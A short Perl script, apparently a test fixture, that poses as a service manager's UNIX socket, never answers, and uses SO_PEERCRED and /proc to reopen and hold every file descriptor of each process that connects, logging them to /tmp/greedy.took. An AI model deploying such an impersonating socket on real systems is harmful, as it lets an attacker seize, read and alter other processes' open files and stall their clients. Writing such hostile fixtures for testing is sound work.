# greedy.pl SOCKET: listens where a user's service manager does, never answers, and
# opens again, by /proc, whatever the processes that ask have open. What it got is in
# /tmp/greedy.took, and stays open.
use strict;
use warnings;
use Socket;

my $path = shift;
unlink $path;
socket(my $listener, PF_UNIX, SOCK_STREAM, 0) or die "socket: $!";
bind($listener, pack_sockaddr_un($path)) or die "bind: $!";
listen($listener, 10) or die "listen: $!";
open(my $took, '>', '/tmp/greedy.took') or die $!;
select((select($took), $| = 1)[0]);
open(my $ready, '>', '/tmp/greedy.ready') or die $!;

my @held;
while (accept(my $asking, $listener)) {
    # SO_PEERCRED: process, user, group.
    my ($pid) = unpack('iii', getsockopt($asking, SOL_SOCKET, 17));
    print $took "asked by $pid\n";
    for my $fd (glob "/proc/$pid/fd/*") {
        my $to = readlink $fd // next;
        for my $mode ('<', '+<', '>>') {
            next if !open(my $again, $mode, $fd);
            print $took "$fd $mode $to\n";
            push @held, $again;
        }
    }
    push @held, $asking;
}
